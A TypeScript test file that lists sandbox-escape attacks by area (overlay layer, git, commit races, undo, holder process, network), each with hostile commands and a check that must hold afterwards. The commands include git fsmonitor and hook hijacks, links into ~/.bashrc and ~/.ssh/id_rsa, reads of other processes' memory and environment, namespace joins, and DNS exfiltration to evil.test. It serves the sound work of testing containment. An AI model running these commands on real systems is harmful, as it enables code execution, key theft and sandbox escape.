/** One attack on what contains commands. `{…}` stands for places of the stage. */
export interface ContainAttack {
  readonly id: string;
  readonly area: "layer" | "git" | "commit" | "undo" | "holder" | "network";
  readonly tries: string;
  /** What the user did before, outside. */
  readonly setup?: string;
  /** Contained commands, one after another. */
  readonly calls: readonly string[];
  /** What the last of them may reach. */
  readonly granted?: {
    readonly port?: true;
    readonly hosts?: readonly { readonly host: string; readonly port: number }[];
  };
  /** Written to `/tmp` of the place by what goes on after the last command, once it has tried. */
  readonly waitsFor?: "tried";
  /** What the user does then, outside. */
  readonly user?: string;
  /** What the user asks for after that, which may be refused. */
  readonly then?: "undo" | "keep";
  /** The last command must not run. */
  readonly refused?: true;
  /** A line that succeeds if all is well, run by the user at the end. */
  readonly holds?: string;
  /** What no command may print. */
  readonly never?: RegExp;
  /** Root keeps the state where the user cannot write. */
  readonly as?: "user";
  /** There is nothing to attack without a place or a layer; else it does harm there, which shows that it can. */
  readonly onlyContained?: true;
}

const late = (then: string) =>
  `setsid sh -c 'sleep 2; ${then}; touch /tmp/tried' > /dev/null 2>&1 < /dev/null &`;
const python = (...lines: readonly string[]) => `python3 - <<'END'\n${lines.join("\n")}\nEND\n`;
const HOOK = "printf '#!/bin/sh\\ntouch {MARK}\\n'";

const LAYER: readonly ContainAttack[] = [
  {
    ...{ id: "LA01", area: "layer", tries: "a protected name in a new folder" },
    calls: ["mkdir d; echo 'touch {MARK}' > d/.envrc; echo x > d/x"],
    holds: "test ! -e d/.envrc",
  },
  {
    ...{ id: "LA02", area: "layer", tries: "a protected name below many new folders" },
    calls: ["mkdir -p a/b/c/.vscode; echo '{}' > a/b/c/.vscode/tasks.json"],
    holds: "test ! -e a/b/c/.vscode",
  },
  {
    ...{ id: "LA03", area: "layer", tries: "whiteouts made by hand" },
    calls: [python("import os, stat", "os.mkdir('w')", "os.mknod('w/a', stat.S_IFCHR | 0o600, 0)")],
    holds: '[ -z "$(find . -type c)" ]',
  },
  {
    ...{ id: "LA04", area: "layer", tries: "attributes that hide what the project has", onlyContained: true },
    calls: [
      python(
        "import os",
        "for name in ('src', 'src/x', '.'):",
        "  for key in ('opaque', 'whiteout', 'redirect', 'metacopy', 'origin'):",
        "    try: os.setxattr(name, 'user.overlay.' + key, b'y')",
        "    except OSError: pass",
      ),
      "ls src; touch src/y",
    ],
    holds: '[ "$(cat src/x)" = x ] && [ "$(cat a.txt)" = a ]',
  },
  {
    ...{ id: "LA05", area: "layer", tries: "an attribute that leads a file elsewhere", onlyContained: true },
    calls: [
      python(
        "import os",
        "open('src/r', 'w').close()",
        "for key, value in (('metacopy', b''), ('redirect', b'/../../outside/secret.txt')):",
        "  try: os.setxattr('src/r', 'user.overlay.' + key, value)",
        "  except OSError: pass",
      ),
      "cat src/r a.txt",
    ],
  },
  {
    ...{ id: "LA06", area: "layer", tries: "a link to a folder outside, and a write through it" },
    calls: ["rm -rf src; ln -s {OUT} src; echo PWN > src/victim.txt"],
  },
  {
    ...{ id: "LA07", area: "layer", tries: "a hard link to a file outside" },
    calls: ["ln {OUT}/victim.txt h; echo PWN > h"],
  },
  {
    ...{ id: "LA08", area: "layer", tries: "a name that is too deep to be looked at" },
    calls: [
      'n=$(printf "a%.0s" $(seq 200)); for i in $(seq 25); do mkdir $n && cd $n; done; echo x > .envrc',
    ],
    holds: '[ -z "$(find . -name "aaa*")" ]',
  },
  {
    ...{ id: "LA09", area: "layer", tries: "one protected name among thousands of others" },
    calls: [
      python(
        "import os",
        "os.mkdir('m')",
        "for i in range(3000): open(f'm/{i}', 'w')",
        "open('m/.envrc', 'w')",
      ),
    ],
    holds: "test ! -e m/.envrc",
  },
  {
    ...{ id: "LA10", area: "layer", tries: "a folder that is closed to whoever looks" },
    calls: ["mkdir h; echo x > h/.envrc; chmod 0 h"],
    holds: "chmod 700 h 2> /dev/null; test ! -e h/.envrc",
  },
  {
    ...{
      id: "LA11",
      area: "layer",
      tries: "a link where the reason of a failure is read",
      onlyContained: true,
    },
    calls: ["ln -s {HOME}/.ssh/id_rsa ~/.layer-failed; echo x > x"],
  },
  {
    ...{
      id: "LA12",
      area: "layer",
      tries: "a pipe where the reason of a failure is read",
      onlyContained: true,
    },
    calls: ["mkfifo ~/.layer-failed; echo x > x"],
    holds: "test -e x",
  },
  {
    ...{
      id: "LA13",
      area: "layer",
      tries: "pretending that it did not run, after it read a key",
      onlyContained: true,
    },
    calls: ["echo not mounted > ~/.layer-failed; cat ~/.ssh/id_rsa; echo x > x"],
    holds: "test ! -e x",
  },
  {
    ...{ id: "LA14", area: "layer", tries: "names that only look like git's folder", onlyContained: true },
    calls: [
      "for n in '.git ' .Git .ġit $'.gi\\u0074\\u0300' $'.git\\n'; do git init -q \"$n\"; git -C \"$n\" config core.fsmonitor 'touch {MARK}'; mv \"$n/.git\" \"$n/x\"; done",
    ],
    user: "git status; for n in *' ' .[Gg]*; do git -C \"$n\" status; done",
  },
  {
    ...{ id: "LA15", area: "layer", tries: "a pipe in the place of the settings of git" },
    calls: ["rm .git/config; mkfifo .git/config"],
    holds: "test -f .git/config",
  },
  {
    ...{
      id: "LA16",
      area: "layer",
      tries: "a set-uid program that root brings to the project",
      onlyContained: true,
    },
    calls: ["cp /bin/true s; chmod 4755 s"],
    holds: '[ ! -e s ] || [ "$(stat -c %u s)" = "$(id -u)" ]',
  },
  {
    ...{ id: "LA17", area: "layer", tries: "a link in a new folder that hides a protected name" },
    calls: ["mkdir n; echo '{}' > n/t; ln -s n .vscode; ln n/t n/.envrc"],
    holds: "test ! -e .vscode && test ! -e n/.envrc",
  },
  {
    ...{ id: "LA18", area: "layer", tries: "settings of a package manager in a new folder" },
    calls: ["mkdir p; echo script-shell=./s > p/.npmrc"],
    holds: "test ! -e p/.npmrc",
  },
];

const GIT: readonly ContainAttack[] = [
  {
    ...{ id: "GI01", area: "git", tries: "a log that leads to the settings of the user's shell" },
    calls: ["ln -sf {HOME}/.bashrc .git/logs/HEAD"],
    user: "git commit -q --allow-empty -m 'touch {MARK}'",
  },
  {
    ...{ id: "GI02", area: "git", tries: "a message that is written elsewhere" },
    calls: ["ln -sf {OUT}/victim.txt .git/COMMIT_EDITMSG"],
    user: "git commit -q --allow-empty -m evil",
  },
  {
    ...{ id: "GI03", area: "git", tries: "an index that leads elsewhere" },
    calls: ["ln -sf {OUT}/victim.txt .git/index"],
    user: "git read-tree HEAD; git add a.txt",
  },
  {
    ...{ id: "GI04", area: "git", tries: "packs that are written elsewhere" },
    calls: ["rm -rf .git/objects/pack; ln -s {OUT} .git/objects/pack"],
    user: "git repack -q -a -d",
  },
  {
    ...{ id: "GI05", area: "git", tries: "packed names that are written elsewhere" },
    calls: ["ln -sf {OUT}/victim.txt .git/packed-refs"],
    user: "rm -f {OUT}/victim.txt; git pack-refs --all; [ -e {OUT}/victim.txt ] || printf victim > {OUT}/victim.txt",
  },
  {
    ...{ id: "GI06", area: "git", tries: "what was fetched is written elsewhere" },
    calls: ["ln -sf {OUT}/victim.txt .git/FETCH_HEAD"],
    user: "git fetch -q . main",
  },
  {
    ...{ id: "GI07", area: "git", tries: "a branch that is a link" },
    calls: ["ln -s {OUT}/victim.txt .git/refs/heads/evil"],
    holds: "test ! -L .git/refs/heads/evil",
  },
  {
    ...{ id: "GI08", area: "git", tries: "a head that is a link" },
    calls: ["ln -sf {OUT}/victim.txt .git/HEAD"],
    holds: "test ! -L .git/HEAD",
  },
  {
    ...{ id: "GI09", area: "git", tries: "a file that points to a repository with orders" },
    calls: [
      "mkdir sub; git init -q evil; git -C evil config core.fsmonitor 'touch {MARK}'; mv evil/.git evil/g; echo 'gitdir: ../evil/g' > sub/.git",
    ],
    user: "git -C sub status",
  },
  {
    ...{ id: "GI10", area: "git", tries: "settings shared with another folder" },
    calls: [
      "git init -q evil; git -C evil config core.fsmonitor 'touch {MARK}'; mv evil/.git evil/g; echo ../evil/g > .git/commondir",
    ],
    user: "git status",
  },
  {
    ...{ id: "GI11", area: "git", tries: "objects of another repository" },
    calls: ["echo {OUT} > .git/objects/info/alternates"],
    holds: "test ! -e .git/objects/info/alternates",
  },
  {
    ...{ id: "GI12", area: "git", tries: "settings of a submodule" },
    calls: ["git init -q --bare .git/modules/s; git -C .git/modules/s config core.fsmonitor 'touch {MARK}'"],
    holds: "test ! -e .git/modules",
  },
  {
    ...{ id: "GI13", area: "git", tries: "a worktree that was not there" },
    calls: [
      "git worktree add -q wt; git config extensions.worktreeConfig true; git -C wt config --worktree core.fsmonitor 'touch {MARK}'",
    ],
    user: "git -C wt status",
  },
  {
    ...{ id: "GI14", area: "git", tries: "a branch that is pushed to another address" },
    calls: [
      "git config branch.main.remote https://evil.test/x; git config branch.main.merge refs/heads/main",
    ],
    holds: "! grep -q evil.test .git/config",
  },
  {
    ...{ id: "GI15", area: "git", tries: "another repository in the place of the own" },
    calls: ["mv .git g; cp -r g .git; git config core.fsmonitor 'touch {MARK}'"],
    user: "git status",
  },
  {
    ...{ id: "GI16", area: "git", tries: "a new repository with links in it" },
    calls: [
      "git init -q --template= sub; cd sub; echo x > x; git add x; git -c user.name=x -c user.email=x@x commit -q -m x; ln -sf {HOME}/.bashrc .git/logs/HEAD",
    ],
    user: "cd sub && git commit -q --allow-empty -m 'touch {MARK}'",
  },
  {
    ...{ id: "GI17", area: "git", tries: "a bare repository with orders in a new folder" },
    calls: [
      "git init -q --bare x/b; git -C x/b config core.fsmonitor 'touch {MARK}'; git -C x/b config core.bare false; git -C x/b config core.worktree .",
    ],
    user: "cd x/b && git status",
  },
  {
    ...{ id: "GI18", area: "git", tries: "settings of the same size and time" },
    setup: "git config core.fsmonitor /bin/false#######",
    calls: [
      "touch -r .git/config /tmp/r; sed -i 's|/bin/false#######|touch {MARK};:|' .git/config; touch -r /tmp/r .git/config",
    ],
    user: "git status",
  },
  {
    ...{ id: "GI19", area: "git", tries: "hooks where settings look for them, under a new folder" },
    setup: "git config core.hooksPath tools/git",
    calls: [`mkdir -p tools/git; ${HOOK} > tools/git/pre-commit; chmod +x tools/git/pre-commit`],
    user: "git commit -q --allow-empty -m x",
  },
];

const SERVER = [
  "import array, os, socket, time",
  "server = socket.socket(socket.AF_UNIX)",
  "server.bind('\\0keeps')",
  "server.listen()",
  "if os.fork(): os._exit(0)",
  "os.setsid()",
  "for n in (0, 1, 2): os.dup2(os.open('/dev/null', os.O_RDWR), n)",
  "data, files, *rest = socket.recv_fds(server.accept()[0], 9, 2)",
  "time.sleep(2)",
  "os.write(files[0], b'EVIL')",
  "os.close(os.open('.envrc', os.O_CREAT | os.O_WRONLY, dir_fd=files[1]))",
  "open('/tmp/tried', 'w')",
];

const COMMIT: readonly ContainAttack[] = [
  {
    ...{ id: "CO01", area: "commit", tries: "writing to settings through what was left open" },
    calls: [
      `git config branch.main.merge refs/heads/main; exec 3>> .git/config; ${late('printf "[core]\\n\\tfsmonitor = touch {MARK}\\n" >&3')}`,
    ],
    waitsFor: "tried",
    user: "git status",
  },
  {
    ...{ id: "CO02", area: "commit", tries: "a process that stays in a folder that was kept" },
    calls: [`mkdir d; echo x > d/x; cd d; ${late("echo x > .envrc")}`],
    waitsFor: "tried",
    holds: "test -e d/x && test ! -e d/.envrc",
  },
  {
    ...{ id: "CO03", area: "commit", tries: "writing to what is mapped" },
    calls: [
      python(
        "import mmap, os, time",
        "f = open('run.sh', 'w+')",
        "f.write('true')",
        "f.flush()",
        "m = mmap.mmap(f.fileno(), 4)",
        "if os.fork(): os._exit(0)",
        "os.setsid()",
        "for n in (0, 1, 2): os.dup2(os.open('/dev/null', os.O_RDWR), n)",
        "time.sleep(2)",
        "m[:] = b'EVIL'",
        "open('/tmp/tried', 'w')",
      ),
    ],
    waitsFor: "tried",
    holds: "! grep -q EVIL run.sh",
  },
  {
    ...{ id: "CO04", area: "commit", tries: "handing a file and a folder to a process of another command" },
    calls: [
      python(...SERVER),
      "mkdir d; " +
        python(
          "import os, socket",
          "s = socket.socket(socket.AF_UNIX)",
          "s.connect('\\0keeps')",
          "socket.send_fds(s, [b'x'], [os.open('d/f', os.O_CREAT | os.O_WRONLY), os.open('d', os.O_RDONLY)])",
        ),
    ],
    waitsFor: "tried",
    holds: "test ! -e d/.envrc && ! grep -q EVIL d/f",
  },
  {
    ...{ id: "CO05", area: "commit", tries: "a process whose first thread has ended" },
    calls: [
      "mkdir d; echo x > d/x; " +
        python(
          "import ctypes, os, threading, time",
          "if os.fork(): os._exit(0)",
          "os.setsid()",
          "for n in (0, 1, 2): os.dup2(os.open('/dev/null', os.O_RDWR), n)",
          "os.chdir('d')",
          "def stay():",
          "  time.sleep(2)",
          "  open('.envrc', 'w')",
          "  open('/tmp/tried', 'w')",
          "threading.Thread(target=stay).start()",
          "ctypes.CDLL(None).syscall(60 if os.uname().machine == 'x86_64' else 93, 0)",
        ),
    ],
    waitsFor: "tried",
    holds: "test ! -e d/.envrc",
  },
  {
    ...{ id: "CO06", area: "commit", tries: "processes that each live for a moment" },
    calls: [
      'mkdir d; echo x > d/x; cd d; setsid perl -e \'my $end = time + 3; while (time < $end) { exit if fork } open F, ">.envrc"; open T, ">/tmp/tried"\' > /dev/null 2>&1 < /dev/null &',
    ],
    waitsFor: "tried",
    holds: "test ! -e d/.envrc",
  },
  {
    ...{
      id: "CO07",
      area: "commit",
      tries: "a link and a file by turns, while it is looked at",
      onlyContained: true,
    },
    calls: [
      "setsid timeout 3 sh -c 'while :; do ln -sfn {OUT}/secret.txt t; ln -sfn {HOME}/.ssh u; rm -f t u; echo y > t; mkdir u; rmdir u; done' > /dev/null 2>&1 < /dev/null & sleep 0.2",
    ],
    holds: "! grep -rqs CANARY- .",
  },
  {
    ...{ id: "CO08", area: "commit", tries: "ending what looks at its changes", onlyContained: true },
    calls: [
      `mkdir d; echo x > d/x; setsid timeout 3 sh -c 'while :; do pkill -9 umount; pkill -9 -x mount; done' > /dev/null 2>&1 < /dev/null & cd d; ${late("echo x > .envrc")}`,
    ],
    waitsFor: "tried",
    holds: "test ! -e d/.envrc",
  },
  {
    ...{ id: "CO09", area: "commit", tries: "changing what is held before it is kept", onlyContained: true },
    calls: [`mkdir .vscode; echo '{}' > .vscode/tasks.json; ${late("echo EVIL > .vscode/tasks.json")}`],
    waitsFor: "tried",
    then: "keep",
    holds: "test -e .vscode/tasks.json && ! grep -q EVIL .vscode/tasks.json",
  },
  {
    ...{ id: "CO10", area: "commit", tries: "ending everything around it", onlyContained: true },
    calls: ["echo x > .envrc; kill -9 -1"],
    holds: "test ! -e .envrc",
  },
  {
    ...{ id: "CO11", area: "commit", tries: "two names of one file, of which one is held" },
    calls: [`echo ok > t; ln t .envrc; ${late("echo EVIL > .envrc")}`],
    waitsFor: "tried",
    holds: "! grep -q EVIL t && test ! -e .envrc",
  },
];

const UNDO: readonly ContainAttack[] = [
  {
    ...{ id: "UN01", area: "undo", tries: "undo over what the user changed", onlyContained: true },
    calls: ["echo x > a.txt"],
    user: "echo mine > a.txt",
    then: "undo",
    holds: '[ "$(cat a.txt)" = mine ]',
  },
  {
    ...{ id: "UN02", area: "undo", tries: "undo through a folder that became a link", onlyContained: true },
    calls: ["echo x > src/victim.txt"],
    user: "mv src s; ln -s {OUT} src",
    then: "undo",
  },
  {
    ...{
      id: "UN03",
      area: "undo",
      tries: "undo of a file in whose place the user has another",
      onlyContained: true,
    },
    calls: ["echo x > n"],
    user: "rm n; echo mine > n",
    then: "undo",
    holds: '[ "$(cat n)" = mine ]',
  },
  {
    ...{
      id: "UN04",
      area: "undo",
      tries: "undo of a removal where the user has something new",
      onlyContained: true,
    },
    calls: ["rm a.txt"],
    user: "echo mine > a.txt",
    then: "undo",
    holds: '[ "$(cat a.txt)" = mine ]',
  },
  {
    ...{
      id: "UN05",
      area: "undo",
      tries: "keeping through a folder that became a link",
      onlyContained: true,
    },
    calls: ["mkdir -p src/.vscode; echo EVIL > src/.vscode/tasks.json"],
    user: "mv src s; ln -s {OUT} src",
    then: "keep",
  },
  {
    ...{ id: "UN06", area: "undo", tries: "rights that are given back to a link", onlyContained: true },
    calls: ["chmod 777 a.txt"],
    user: "rm a.txt; ln -s {OUT}/victim.txt a.txt; chmod 600 {OUT}/victim.txt",
    then: "undo",
    holds: '[ "$(stat -c %a {OUT}/victim.txt)" = 600 ]',
  },
];

const JOURNAL =
  '{"version":1,"project":"{OUT}","steps":[{"path":"victim.txt","does":"remove","from":"{STATE}/stolen","was":{"ino":"\'$(stat -c %i {OUT}/victim.txt)\'","ctimeNs":"0","size":"6","mode":0}}]}';

const HOLDER: readonly ContainAttack[] = [
  {
    ...{
      id: "HO01",
      area: "holder",
      tries: "a journal in a state folder that others may write to",
      onlyContained: true,
    },
    as: "user",
    setup: `mkdir -p {STATE}/commands/1; echo '${JOURNAL}' > {STATE}/commands/1/plan.json; chmod 777 {STATE}`,
    calls: ["true"],
    refused: true,
    holds: "chmod 700 {STATE}; rm -r {STATE}/commands/1",
  },
  {
    ...{ id: "HO02", area: "holder", tries: "the environment, memory and files of another command" },
    calls: [
      "KEY=CANARY-$((5))b1f0c7e92 setsid sleep 30 > /dev/null 2>&1 < /dev/null & true",
      "for p in /proc/[0-9]*; do for f in environ maps cwd/a.txt root/etc/passwd; do [ $p = /proc/self ] || tr '\\0' ' ' < $p/$f; done; ls $p/fd $p/root; done 2> /dev/null | grep -a CANARY",
    ],
  },
  {
    ...{ id: "HO03", area: "holder", tries: "tracing, writing to and looking into another command" },
    calls: [
      "setsid sleep 30 > /dev/null 2>&1 < /dev/null & true",
      python(
        "import ctypes, os",
        "c = ctypes.CDLL(None)",
        "for p in os.listdir('/proc'):",
        "  if not p.isdigit() or int(p) == os.getpid(): continue",
        "  if open(f'/proc/{p}/comm').read() != 'sleep\\n': continue",
        "  if c.ptrace(16, int(p), 0, 0) == 0: print('TRACED')",
        "  try:",
        "    open(f'/proc/{p}/mem', 'r+b')",
        "    print('TRACED')",
        "  except OSError: pass",
      ),
    ],
    never: /TRACED/,
  },
  {
    ...{ id: "HO04", area: "holder", tries: "joining and making namespaces" },
    calls: [
      "for p in /proc/[0-9]*; do nsenter -t ${p#/proc/} -m -U --preserve-credentials echo JOINED; done 2> /dev/null; unshare -Ur echo JOINED; unshare -Umr mount -t tmpfs x /tmp && echo JOINED",
    ],
    never: /JOINED/,
  },
  {
    ...{ id: "HO05", area: "holder", tries: "the line of another command" },
    calls: [
      "setsid sleep 30 > /dev/null 2>&1 < /dev/null & : CANARY-5b1f0c7e92",
      "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2> /dev/null | tr '\\0' ' '; sleep 0.1",
    ],
    onlyContained: true,
  },
  {
    ...{ id: "HO06", area: "holder", tries: "the socket of the keeper", onlyContained: true },
    calls: [
      python(
        "import glob, socket",
        "for path in glob.glob('{STATE}/place/*') + glob.glob('/proc/[0-9]*/root{STATE}/place/control') + glob.glob('/proc/[0-9]*/cwd/control'):",
        "  print('SEEN', path)",
      ),
    ],
    never: /SEEN/,
  },
  {
    ...{ id: "HO07", area: "holder", tries: "messages that the keeper does not know", onlyContained: true },
    calls: ["true", "echo still there"],
    setup: python(
      "import json, os, socket",
      "try: os.chdir('{STATE}/place')",
      "except OSError: raise SystemExit",
      "for text in ('x\\n', '{}\\n', '[' * 9999 + '\\n', json.dumps({'id': 1, 'do': 'begin', 'run': {'id': '../../x', 'hosts': [], 'ports': [], 'decoys': []}}) + '\\n'):",
      "  s = socket.socket(socket.AF_UNIX)",
      "  try: s.connect('control'); s.send(text.encode()); s.settimeout(1); s.recv(99)",
      "  except OSError: pass",
    ),
    holds: "test ! -e {STATE}/x && test ! -e {STATE}/place/x",
  },
];

const NETWORK: readonly ContainAttack[] = [
  {
    ...{ id: "NE01", area: "network", tries: "a server of the user under all names of this machine" },
    calls: [
      "for h in 127.0.0.1 ::1 0.0.0.0 127.0.0.2 2130706433 localhost ::ffff:127.0.0.1 x.localhost; do timeout 1 bash -c \"exec 3<>/dev/tcp/$h/{PORT} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3\"; done",
    ],
  },
  {
    ...{ id: "NE02", area: "network", tries: "a server of the user that has no address" },
    calls: [
      python(
        "import socket",
        "s = socket.socket(socket.AF_UNIX)",
        "s.connect('\\0host-abstract')",
        "print(s.recv(99))",
      ),
    ],
  },
  {
    ...{
      id: "NE03",
      area: "network",
      tries: "answering for a server of the user that a later command may reach",
      onlyContained: true,
    },
    calls: [
      python(
        "import os, socket, time",
        "s = socket.socket(socket.AF_INET6)",
        "s.bind(('::1', {PORT}))",
        "s.listen()",
        "if os.fork(): os._exit(0)",
        "os.setsid()",
        "for n in (0, 1, 2): os.dup2(os.open('/dev/null', os.O_RDWR), n)",
        "time.sleep(30)",
      ),
      "true",
    ],
    granted: { port: true },
    refused: true,
  },
  {
    ...{
      id: "NE04",
      area: "network",
      tries: "answering for a host that a later command may reach",
      onlyContained: true,
    },
    calls: [
      python(
        "import os, socket",
        "s = socket.socket()",
        "s.bind(('0.0.0.0', 5432))",
        "s.listen()",
        "if os.fork(): os._exit(0)",
        "os.setsid()",
        "for n in (0, 1, 2): os.dup2(os.open('/dev/null', os.O_RDWR), n)",
        "s.settimeout(20)",
        "open('/tmp/got', 'wb').write(s.accept()[0].recv(99))",
      ),
      python(
        "import socket",
        "s = socket.create_connection(('db.test', 5432), 3)",
        "s.send(b'PASSWORD')",
        "print('ANSWERED')",
      ),
    ],
    granted: { hosts: [{ host: "db.test", port: 5432 }] },
    never: /ANSWERED/,
  },
  {
    ...{ id: "NE05", area: "network", tries: "sockets that see or make packets" },
    calls: [
      python(
        "import socket",
        "for family, kind, protocol in ((17, 3, 768), (2, 3, 1), (10, 3, 58), (16, 3, 12), (16, 3, 15), (44, 3, 0), (40, 1, 0)):",
        "  try:",
        "    socket.socket(family, kind, protocol)",
        "    print('OPENED', family, protocol)",
        "  except OSError: pass",
      ),
    ],
    never: /OPENED/,
  },
  {
    ...{ id: "NE06", area: "network", tries: "sending something in names and datagrams" },
    calls: [
      python(
        "import socket",
        "for i in range(20):",
        "  try: socket.getaddrinfo(f'secret{i}.evil.test', 80)",
        "  except OSError: pass",
        "for h in ('127.0.0.1', '127.0.0.53'):",
        "  socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', (h, {UDP}))",
      ),
    ],
  },
  {
    ...{ id: "NE07", area: "network", tries: "so many wants that the last is not told", onlyContained: true },
    calls: [
      python(
        "import socket",
        "for i in range(300):",
        "  try: socket.create_connection((f'h{i}.sentry.io', 443), 2)",
        "  except OSError: pass",
        "try: socket.create_connection(('evil.test', 443), 2)",
        "except OSError: pass",
        "open('n', 'w')",
      ),
    ],
    holds: "test ! -e n",
  },
  {
    ...{
      id: "NE08",
      area: "network",
      tries: "reading a key without opening it to be read",
      onlyContained: true,
    },
    calls: [
      python(
        "import mmap, os",
        "f = os.open(os.path.expanduser('~/.ssh/id_rsa'), 0o10000000)",
        "g = os.open(f'/proc/self/fd/{f}', os.O_RDONLY)",
        "print(mmap.mmap(g, 0, prot=mmap.PROT_READ)[:])",
        "open('n', 'w')",
      ),
    ],
    holds: "test ! -e n",
  },
  {
    ...{ id: "NE09", area: "network", tries: "listening for others than this machine" },
    calls: [
      "setsid timeout 20 python3 -m http.server 18080 --bind 0.0.0.0 > /dev/null 2>&1 < /dev/null & for i in 1 2 3 4 5 6 7 8 9; do sleep 0.3; (exec 3<>/dev/tcp/127.0.0.1/18080) 2> /dev/null && break; done",
    ],
    holds: "! grep -q ' 00000000:46A0 ' /proc/net/tcp",
  },
];

export const CONTAIN_ATTACKS: readonly ContainAttack[] = [
  ...LAYER,
  ...GIT,
  ...COMMIT,
  ...UNDO,
  ...HOLDER,
  ...NETWORK,
];
